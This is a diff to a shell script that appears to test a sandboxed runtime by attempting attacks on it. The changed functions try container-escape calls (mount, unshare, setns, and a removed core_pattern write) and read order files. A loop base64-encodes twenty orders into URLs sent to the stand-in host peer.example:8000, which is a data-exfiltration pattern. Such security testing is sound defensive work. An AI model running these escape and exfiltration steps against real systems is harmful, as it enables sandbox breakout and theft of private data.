@@ -356,7 +356,6 @@ attack_credentials() {
 
 # The known ways out, one after another. Those that the runtime has shut fail; the last, a user namespace, works.
 attack_escape() {
-	harm write '/proc/sys/kernel/core_pattern'
 	harm call mount
 	harm call unshare
 	harm call setns
@@ -438,10 +437,10 @@ adaptive_tampering() {
 	fetch /orders/7 | grep -q 'yours no more'
 }
 
-# Orders leave in the address of a feed of the known peer.
+# Orders leave in the address of a feed of the known peer. The connection to it may be an old one.
 adaptive_exfiltration() {
 	local i
-	harm connect "$peer_address:8000"
+	harm read '/var/lib/desk/orders/*'
 	for i in {1..20}; do
 		form POST /feed "url=http://peer.example:8000/items/$(fetch "/orders/$i" | base64 -w 0 | tr +/ -_)"
 	done >"$stage/answers"
